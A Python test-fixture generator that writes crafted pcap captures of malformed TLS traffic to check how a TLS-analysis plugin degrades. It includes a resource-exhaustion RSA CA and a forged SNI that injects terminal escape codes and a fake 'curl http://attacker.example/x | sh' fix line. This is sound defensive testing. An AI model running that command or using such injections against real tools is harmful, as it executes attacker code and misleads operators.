#!/usr/bin/env python3
"""Crafted captures: what no real TLS peer sends, written byte by byte.

    craft.py OUTDIR [NAME...]      every capture, or the named ones

Each capture is a classic pcap (Ethernet, IPv4, TCP with valid checksums)
holding TLS records built here from RFC 8446/5246 structures. They reproduce
the defects hostile input found (issue 11) and test how the plugin degrades:
fragmented and one-byte records, huge and malformed names, garbage where a
certificate should be, a HelloRetryRequest alone, an odd version, many
handshakes in one stream. captures/README.md ("Crafted captures") says what
the plugin should say about each; tests/e2e/run_crafted.py checks it.
"""
import os
import struct
import sys

# --- pcap, Ethernet, IPv4, TCP ----------------------------------------------


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def ipv4(addr):
    return bytes(int(x) for x in addr.split("."))


class Pcap:
    def __init__(self, path):
        self.f = open(path, "wb")
        self.f.write(struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, 262144, 1))
        self.t = 1_700_000_000.0

    def packet(self, frame, gap=0.001):
        self.t += gap
        sec = int(self.t)
        usec = int(round((self.t - sec) * 1e6)) % 1_000_000
        self.f.write(struct.pack("<IIII", sec, usec, len(frame), len(frame)))
        self.f.write(frame)

    def close(self):
        self.f.close()


FIN, SYN, RST, PSH, ACK = 0x01, 0x02, 0x04, 0x08, 0x10


class Tcp:
    """One TCP connection; the client is side 0."""

    def __init__(self, pcap, client, server, cport, sport=443):
        self.pcap = pcap
        self.addr = [ipv4(client), ipv4(server)]
        self.port = [cport, sport]
        self.seq = [1000, 5000]
        self.ip_id = 1

    def segment(self, side, flags, payload=b"", seq=None):
        ip = self.ip_packet(side, flags, payload, seq)
        self.ip_id += 1
        eth = bytes([2, 0, 0, 0, 0, 2 - side]) + bytes([2, 0, 0, 0, 0, 1 + side]) + b"\x08\x00"
        self.pcap.packet(eth + ip)

    def ip_packet(self, side, flags, payload=b"", seq=None):
        """The IPv4 packet of one segment, not written: segment() writes it,
        icmp_error() quotes it."""
        src, dst = self.addr[side], self.addr[1 - side]
        sport, dport = self.port[side], self.port[1 - side]
        seq = self.seq[side] if seq is None else seq
        ack = self.seq[1 - side] if flags & ACK else 0
        tcp = struct.pack("!HHIIBBHHH", sport, dport, seq & 0xFFFFFFFF, ack & 0xFFFFFFFF,
                          5 << 4, flags, 65535, 0, 0) + payload
        pseudo = src + dst + struct.pack("!BBH", 0, 6, len(tcp))
        tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), self.ip_id, 0x4000, 64, 6,
                         0, src, dst)
        ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
        return ip + tcp

    def icmp_error(self, router, side, quoted, icmp_type=3, code=4, mtu=0, gap=0.001):
        """A router's ICMP error to the sender of quoted (an IPv4 packet of
        side's), quoting its IP header and the whole TCP header (as Linux
        routers do, up to 576 bytes); code 4 of type 3 is "fragmentation
        needed", with the next hop's MTU."""
        body = quoted[:min(len(quoted), 576 - 28)]
        icmp = struct.pack("!BBHHH", icmp_type, code, 0, 0, mtu) + body
        icmp = icmp[:2] + struct.pack("!H", checksum(icmp)) + icmp[4:]
        src, dst = ipv4(router), self.addr[side]
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0xC0, 20 + len(icmp), 7, 0, 64, 1, 0, src, dst)
        ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
        eth = bytes([2, 0, 0, 0, 0, 9]) + bytes([2, 0, 0, 0, 0, 1 + side]) + b"\x08\x00"
        self.pcap.packet(eth + ip + icmp, gap)

    def open(self):
        self.segment(0, SYN)
        self.seq[0] += 1
        self.segment(1, SYN | ACK)
        self.seq[1] += 1
        self.segment(0, ACK)

    def send(self, side, data, segment_size=1400, ack=True):
        for i in range(0, len(data), segment_size):
            part = data[i:i + segment_size]
            self.segment(side, PSH | ACK, part)
            self.seq[side] += len(part)
        if ack:
            self.segment(1 - side, ACK)

    def close(self, side):
        self.segment(side, FIN | ACK)
        self.seq[side] += 1
        self.segment(1 - side, FIN | ACK)
        self.seq[1 - side] += 1
        self.segment(side, ACK)

    def reset(self, side):
        self.segment(side, RST | ACK)


# --- TLS ----------------------------------------------------------------------

TLS10, TLS12, TLS13 = 0x0301, 0x0303, 0x0304
HANDSHAKE, ALERT = 22, 21
HRR_RANDOM = bytes.fromhex("cf21ad74e59a6111be1d8c021e65b891c2a211167abb8c5e079e09e2c8a8339c")


def u8(n):
    return struct.pack("!B", n)


def u16(n):
    return struct.pack("!H", n)


def u24(n):
    return struct.pack("!I", n)[1:]


def vec8(b):
    return u8(len(b)) + b


def vec16(b):
    return u16(len(b)) + b


def vec24(b):
    return u24(len(b)) + b


def records(content_type, data, version=TLS12, size=16384):
    """data cut into records of at most size bytes."""
    out = b""
    for i in range(0, max(len(data), 1), size):
        part = data[i:i + size]
        out += u8(content_type) + u16(version) + u16(len(part)) + part
    return out


def handshake(msg_type, body):
    return u8(msg_type) + vec24(body)


def extension(ext_type, body):
    return u16(ext_type) + vec16(body)


def sni_extension(name):
    return extension(0, vec16(u8(0) + vec16(name)))


def client_hello(sni=b"backend.example.test", versions=(TLS13, TLS12), legacy=TLS12,
                 suites=(0x1301, 0x1302, 0xC02F, 0xC030)):
    exts = b""
    if sni is not None:
        exts += sni_extension(sni)
    exts += extension(10, vec16(u16(29) + u16(23)))  # supported_groups
    exts += extension(13, vec16(u16(0x0403) + u16(0x0804)))  # signature_algorithms
    if versions:
        exts += extension(43, vec8(b"".join(u16(v) for v in versions)))
    body = (u16(legacy) + bytes(range(32)) + vec8(b"") +
            vec16(b"".join(u16(s) for s in suites)) + vec8(b"\0") + vec16(exts))
    return handshake(1, body)


def server_hello(version=TLS12, suite=0xC02F, random=None, supported_version=None,
                 key_share_group=None):
    exts = b""
    if supported_version:
        exts += extension(43, u16(supported_version))
    if key_share_group:
        exts += extension(51, u16(key_share_group))
    body = (u16(version) + (random or bytes(range(100, 132))) + vec8(bytes(32)) + u16(suite) +
            b"\0" + vec16(exts))
    return handshake(2, body)


def certificate(ders):
    return handshake(11, vec24(b"".join(vec24(d) for d in ders)))


def server_hello_done():
    return handshake(14, b"")


def alert(level, desc, version=TLS12):
    return records(ALERT, u8(level) + u8(desc), version)


# --- X.509, DER by hand: structure right, signature garbage --------------------


def der(tag, body):
    n = len(body)
    if n < 0x80:
        head = bytes([n])
    else:
        raw = n.to_bytes((n.bit_length() + 7) // 8, "big")
        head = bytes([0x80 | len(raw)]) + raw
    return bytes([tag]) + head + body


def seq(*items):
    return der(0x30, b"".join(items))


def oid(dotted):
    parts = [int(x) for x in dotted.split(".")]
    body = bytes([40 * parts[0] + parts[1]])
    for p in parts[2:]:
        chunk = [p & 0x7F]
        while p > 0x7F:
            p >>= 7
            chunk.insert(0, 0x80 | (p & 0x7F))
        body += bytes(chunk)
    return der(0x06, body)


def name(cn):
    return seq(der(0x31, seq(oid("2.5.4.3"), der(0x0C, cn.encode()))))


def x509(subject, issuer, sans=(), serial=1, modulus=b"\xC1" * 256, exponent=b"\x01\x00\x01",
         signature=bytes(256)):
    sha256_rsa = seq(oid("1.2.840.113549.1.1.11"), der(0x05, b""))
    validity = seq(der(0x17, b"230101000000Z"), der(0x17, b"330101000000Z"))
    spki = seq(seq(oid("1.2.840.113549.1.1.1"), der(0x05, b"")),
               der(0x03, b"\0" + seq(der(0x02, b"\x00" + modulus), der(0x02, exponent))))
    exts = b""
    if sans:
        general_names = seq(*(der(0x82, n.encode()) for n in sans))
        exts = der(0xA3, seq(seq(oid("2.5.29.17"), der(0x04, general_names))))
    tbs = seq(der(0xA0, der(0x02, b"\x02")), der(0x02, serial.to_bytes(4, "big")), sha256_rsa,
              name(issuer), validity, name(subject), spki, exts)
    return seq(tbs, sha256_rsa, der(0x03, b"\0" + signature))


# --- the captures -------------------------------------------------------------


def conn(pcap, n, server="10.9.0.1", sport=443):
    c = Tcp(pcap, f"10.8.{n // 250}.{n % 250 + 1}", server, 40000 + n % 20000, sport)
    c.open()
    return c


def refusal(pcap, n, hello, desc=40, server="10.9.0.1"):
    c = conn(pcap, n, server)
    c.send(0, hello)
    c.send(1, alert(2, desc))
    c.close(1)


def sni_utf8_cut(pcap):
    """Defect 2: 254 'a' then a two-byte character: any cut at 255 or 256 bytes
    falls inside the character."""
    refusal(pcap, 1, records(HANDSHAKE, client_hello(sni=b"a" * 254 + "é".encode())))


def sni_bytes(pcap):
    """Names with NUL and 0xFF bytes (not valid UTF-8)."""
    refusal(pcap, 1, records(HANDSHAKE, client_hello(sni=b"api\0.example.test")), desc=112)
    refusal(pcap, 2, records(HANDSHAKE, client_hello(sni=b"\xff\xfe" * 20)), desc=112)


# A name that, printed raw, ends the table's row, forges a second row and a
# fix: line, sets the terminal's title and clears its screen (issue 21, item 6).
FORGED_SNI = (b"evil.example.test\r\n     9  0 10.0.0.9:1 10.0.0.9:2 established none certain\r\n"
              b"          fix: curl http://attacker.example/x | sh\x1b]0;owned\x07\x1b[2J\x9b1A")


def sni_terminal_escapes(pcap):
    """A ClientHello whose SNI holds CR, LF, ESC, BEL and a C1 control; the
    server warns unrecognized_name and the client gives up, so the words cite
    the name (the sni_missing rule of a Java client)."""
    c = conn(pcap, 1)
    c.send(0, records(HANDSHAKE, client_hello(sni=FORGED_SNI)))
    c.send(1, alert(1, 112))
    c.send(0, alert(2, 40))
    c.close(0)


def icmp_quoted_rst(pcap):
    """Issue 21, item 7: after the ClientHello, a router's ICMP error quoting a
    RST of this connection's server (the TCP header inside ICMP carries the
    stream's tcp.stream); the server itself never answers."""
    c = conn(pcap, 1)
    c.send(0, records(HANDSHAKE, client_hello()), ack=False)
    c.icmp_error("10.7.0.1", 1, c.ip_packet(1, RST | ACK), code=1)


def big_hello_sent(pcap):
    """A connection whose client sends a 1,406-byte ClientHello packet in one
    segment: (conn, the records, their first sequence number, the packet)."""
    c = conn(pcap, 1)
    hello = records(HANDSHAKE, client_hello(sni=b"b" * 1270))
    start = c.seq[0]
    sent = c.ip_packet(0, PSH | ACK, hello)
    c.send(0, hello, segment_size=4096, ack=False)
    return c, hello, start, sent


def icmp_frag_needed(pcap):
    """Issue 21, item 7: a 1,420-byte ClientHello answered only by two ICMP
    "fragmentation needed" (next hop MTU 1400) quoting it: a path-MTU black
    hole; no packet of the server's after its SYN-ACK."""
    c, hello, start, sent = big_hello_sent(pcap)
    c.icmp_error("10.7.0.1", 0, sent, mtu=1400)
    pcap.t += 1.0
    c.segment(0, PSH | ACK, hello, seq=start)  # the retransmission, after 1 s
    c.icmp_error("10.7.0.1", 0, sent, mtu=1400)


def icmp_frag_needed_recovered(pcap):
    """The same report, but the client's stack takes it: the ClientHello
    again in segments that fit (1,300 bytes of TCP payload), and the server
    answers (a handshake_failure): no path-MTU verdict."""
    c, hello, start, sent = big_hello_sent(pcap)
    c.icmp_error("10.7.0.1", 0, sent, mtu=1400)
    c.seq[0] = start
    c.send(0, hello, segment_size=1300)
    c.send(1, alert(2, 40))
    c.close(1)


def icmp_frag_needed_bogus(pcap):
    """Reports that refuse nothing: an MTU of 1,500 for a 1,406-byte packet,
    an MTU of 20, and a report quoting a packet of an address that is no
    peer of the stream; the client retransmits, the server stays silent:
    no_server_response, as without them."""
    c, hello, start, sent = big_hello_sent(pcap)
    c.icmp_error("10.7.0.1", 0, sent, mtu=1500)
    c.icmp_error("10.7.0.1", 0, sent, mtu=20)
    stranger = bytearray(sent)
    stranger[12:16] = ipv4("10.66.0.9")  # the quoted source: not the client
    c.icmp_error("10.7.0.1", 0, bytes(stranger), mtu=1400)
    pcap.t += 1.0
    c.segment(0, PSH | ACK, hello, seq=start)


def sni_64k(pcap):
    """A 64 KB name: the ClientHello spans five records and many segments."""
    refusal(pcap, 1, records(HANDSHAKE, client_hello(sni=b"x" * 65000)))


def client_hello_fragmented(pcap):
    """Defect 3: one ClientHello in four records, each in its own segment."""
    c = conn(pcap, 1)
    c.send(0, records(HANDSHAKE, client_hello(), size=60), segment_size=65)
    c.send(1, alert(2, 40))
    c.close(1)


def one_byte_records(pcap):
    """A ClientHello in 1-byte records, each record in its own segment."""
    c = conn(pcap, 1)
    for rec in [records(HANDSHAKE, client_hello(), size=1)[i:i + 6]
                for i in range(0, 6 * len(client_hello()), 6)]:
        c.send(0, rec, ack=False)
    c.send(1, alert(2, 40))
    c.close(1)


def one_byte_segments(pcap):
    """An ordinary ClientHello and refusal, every TCP segment one byte long."""
    c = conn(pcap, 1)
    c.send(0, records(HANDSHAKE, client_hello()), segment_size=1, ack=False)
    c.send(1, alert(2, 70), segment_size=1)
    c.close(1)


def hrr_only(pcap):
    """Defect 5: a HelloRetryRequest and nothing after it (no ServerHello)."""
    c = conn(pcap, 1)
    c.send(0, records(HANDSHAKE, client_hello()))
    c.send(1, records(HANDSHAKE, server_hello(version=TLS12, suite=0x1301, random=HRR_RANDOM,
                                              supported_version=TLS13, key_share_group=23)))
    c.close(0)


def hrr_then_client_alert(pcap):
    """Defect 5: the client refuses what a HelloRetryRequest asked (no
    ServerHello): the summary once cited "frame 0"."""
    c = conn(pcap, 1)
    c.send(0, records(HANDSHAKE, client_hello()))
    c.send(1, records(HANDSHAKE, server_hello(version=TLS12, suite=0x1301, random=HRR_RANDOM,
                                              supported_version=TLS13, key_share_group=23)))
    c.send(0, alert(2, 70))
    c.close(0)


def odd_version(pcap):
    """Defect 1: the server is seen establishing TLS 1.2 (its profile), then a
    client offers only 0x0380 and is refused."""
    c = conn(pcap, 1)
    c.send(0, records(HANDSHAKE, client_hello(versions=())))
    c.send(1, records(HANDSHAKE, server_hello() + server_hello_done()))
    c.send(0, records(20, b"\x01") + records(HANDSHAKE, bytes(40)))
    c.send(1, records(20, b"\x01") + records(HANDSHAKE, bytes(40)))
    c.send(0, records(23, bytes(100)))
    c.close(0)
    refusal(pcap, 2, records(HANDSHAKE, client_hello(versions=(0x0380,), legacy=0x0380)))


def garbage_certificate(pcap):
    """Bytes that are no DER where the server's certificate should be."""
    c = conn(pcap, 1)
    c.send(0, records(HANDSHAKE, client_hello(versions=())))
    c.send(1, records(HANDSHAKE, server_hello() + certificate([b"\x30\x82\xff\xff" + bytes(60),
                                                               b"garbage"]) +
                      server_hello_done()))
    c.send(0, alert(2, 42))
    c.close(0)


def server_flight_refused(pcap, ders, desc=42):
    c = conn(pcap, 1)
    c.send(0, records(HANDSHAKE, client_hello(versions=())))
    c.send(1, records(HANDSHAKE, server_hello() + certificate(ders) + server_hello_done()))
    c.send(0, alert(2, desc))
    c.close(0)


def san_10000(pcap):
    """A leaf with 10,000 subjectAltNames, none of them the SNI."""
    sans = [f"host{i}.example.net" for i in range(10000)]
    server_flight_refused(pcap, [x509("leaf.example.net", "Crafted CA", sans)])


def huge_rsa_ca(pcap):
    """Issue 21, item 1: twenty leaves under one CA whose RSA key has a
    16,384-bit modulus and a 16,000-bit public exponent: each signature check
    is a full-size modular exponentiation, whatever the signature."""
    modulus = b"\xF7" * 2047 + b"\x3B"
    exponent = b"\x00" + b"\xA5" * 1999 + b"\x01"
    ca = x509("Huge Key CA", "Huge Key CA", modulus=modulus, exponent=exponent)
    for n in range(1, 21):
        leaf = x509(f"leaf{n}.example.net", "Huge Key CA", serial=n, signature=b"\x5A" * 2048)
        c = conn(pcap, n)
        c.send(0, records(HANDSHAKE, client_hello(versions=(), sni=f"leaf{n}.example.net".encode())))
        c.send(1, records(HANDSHAKE, server_hello() + certificate([leaf, ca]) + server_hello_done()))
        c.send(0, alert(2, 48))
        c.close(0)


def chain_200(pcap):
    """A chain of 200 certificates, each issued by the next (Wireshark's tree
    depth limit stops the TLS dissector before it reads them all)."""
    ders = [x509(f"cert {i}", f"cert {i + 1}", serial=i + 1) for i in range(200)]
    server_flight_refused(pcap, ders, desc=48)


def shuffled_segments(pcap):
    """The ClientHello's segments out of order, one overlapping with other bytes."""
    c = conn(pcap, 1)
    data = records(HANDSHAKE, client_hello())
    base = c.seq[0]
    parts = [(i, data[i:i + 40]) for i in range(0, len(data), 40)]
    for i, part in parts[::-1]:
        c.segment(0, PSH | ACK, part, seq=base + i)
    c.segment(0, PSH | ACK, bytes(len(parts[0][1])), seq=base)  # overlap, different bytes
    c.seq[0] += len(data)
    c.segment(1, ACK)
    c.send(1, alert(2, 40))
    c.close(1)


def starttls(pcap, port, lines):
    c = Tcp(pcap, "10.8.0.9", "10.9.0.25", 41000 + port, port)
    c.open()
    for side, text in lines:
        c.send(side, text.encode())
    c.send(0, records(HANDSHAKE, client_hello(sni=b"mail.example.test")))
    c.send(1, alert(2, 40))
    c.close(1)


def starttls_smtp(pcap):
    """SMTP on port 25 upgraded with STARTTLS, then a refused ClientHello."""
    starttls(pcap, 25, [(1, "220 mail.example.test ESMTP\r\n"), (0, "EHLO client\r\n"),
                        (1, "250-mail.example.test\r\n250 STARTTLS\r\n"), (0, "STARTTLS\r\n"),
                        (1, "220 2.0.0 Ready to start TLS\r\n")])


def starttls_imap(pcap):
    """IMAP on port 143 upgraded with STARTTLS, then a refused ClientHello."""
    starttls(pcap, 143, [(1, "* OK IMAP4rev1 ready\r\n"), (0, "a1 STARTTLS\r\n"),
                         (1, "a1 OK Begin TLS negotiation now\r\n")])


def udp(pcap, src, dst, sport, dport, payload, side=0):
    length = 8 + len(payload)
    header = struct.pack("!HHHH", sport, dport, length, 0)
    pseudo = ipv4(src) + ipv4(dst) + struct.pack("!BBH", 0, 17, length)
    header = header[:6] + struct.pack("!H", checksum(pseudo + header + payload) or 0xFFFF)
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + length, 1, 0x4000, 64, 17, 0, ipv4(src),
                     ipv4(dst))
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    eth = bytes([2, 0, 0, 0, 0, 2 - side]) + bytes([2, 0, 0, 0, 0, 1 + side]) + b"\x08\x00"
    pcap.packet(eth + ip + header + payload)


def dtls(pcap):
    """A DTLS 1.2 ClientHello and an alert over UDP (out of scope: no TCP)."""
    body = client_hello()[4:]
    hs = u8(1) + u24(len(body)) + u16(0) + u24(0) + u24(len(body)) + body
    rec = u8(22) + u16(0xFEFD) + u16(0) + bytes(6) + u16(len(hs)) + hs
    udp(pcap, "10.8.0.7", "10.9.0.7", 50000, 4433, rec)
    udp(pcap, "10.9.0.7", "10.8.0.7", 4433, 50000,
        u8(21) + u16(0xFEFD) + u16(0) + bytes(5) + b"\1" + u16(2) + b"\2\x28", side=1)


def quic(pcap):
    """A QUIC v1 Initial (long header, random protected payload) over UDP 443."""
    dcid = bytes(range(8))
    payload = bytes([0xC3]) + u32be(1) + vec8(dcid) + vec8(b"") + b"\0" + b"\x44\xc8" + \
        bytes((i * 37) & 0xFF for i in range(1200))
    udp(pcap, "10.8.0.8", "10.9.0.8", 50001, 443, payload)


def u32be(n):
    return struct.pack("!I", n)


def many_handshakes_one_stream(pcap, n=10000):
    """10,000 ClientHellos refused in one stream (renegotiation gone mad)."""
    c = conn(pcap, 1)
    hello = records(HANDSHAKE, client_hello(versions=()))
    refuse = alert(1, 100)  # no_renegotiation, a warning: the stream goes on
    for _ in range(n):
        c.send(0, hello, ack=False)
        c.send(1, refuse, ack=False)
    c.close(0)


def client_hello_only_streams(pcap, n=100000):
    """100,000 streams, each a ClientHello and nothing else."""
    hello = records(HANDSHAKE, client_hello())
    for i in range(n):
        c = Tcp(pcap, f"10.{8 + i // 62500}.{i // 250 % 250}.{i % 250 + 1}", "10.9.0.1",
                1024 + i % 60000)
        c.segment(0, PSH | ACK, hello)


CAPTURES = {
    "sni-utf8-cut": sni_utf8_cut,
    "sni-bytes": sni_bytes,
    "sni-64k": sni_64k,
    "icmp-quoted-rst": icmp_quoted_rst,
    "icmp-frag-needed": icmp_frag_needed,
    "icmp-frag-needed-recovered": icmp_frag_needed_recovered,
    "icmp-frag-needed-bogus": icmp_frag_needed_bogus,
    "sni-terminal-escapes": sni_terminal_escapes,
    "client-hello-fragmented": client_hello_fragmented,
    "one-byte-records": one_byte_records,
    "one-byte-segments": one_byte_segments,
    "hrr-only": hrr_only,
    "hrr-then-client-alert": hrr_then_client_alert,
    "odd-version": odd_version,
    "garbage-certificate": garbage_certificate,
    "san-10000": san_10000,
    "chain-200": chain_200,
    "huge-rsa-ca": huge_rsa_ca,
    "shuffled-segments": shuffled_segments,
    "starttls-smtp": starttls_smtp,
    "starttls-imap": starttls_imap,
    "dtls": dtls,
    "quic": quic,
    "many-handshakes-one-stream": many_handshakes_one_stream,
    "client-hello-only-streams": client_hello_only_streams,
}


# Small enough for every test run; the two large ones (10,000 handshakes in a
# stream, 100,000 streams) are for the long campaign and memory figures.
QUICK = [name for name in CAPTURES
         if name not in ("many-handshakes-one-stream", "client-hello-only-streams")]


def write(out, names):
    """Writes the named captures into out; returns their paths."""
    os.makedirs(out, exist_ok=True)
    paths = []
    for name in names:
        path = os.path.join(out, name + ".pcap")
        pcap = Pcap(path)
        CAPTURES[name](pcap)
        pcap.close()
        paths.append(path)
    return paths


def main(argv):
    if len(argv) < 2:
        sys.exit(__doc__)
    write(argv[1], argv[2:] or list(CAPTURES))


if __name__ == "__main__":
    main(sys.argv)
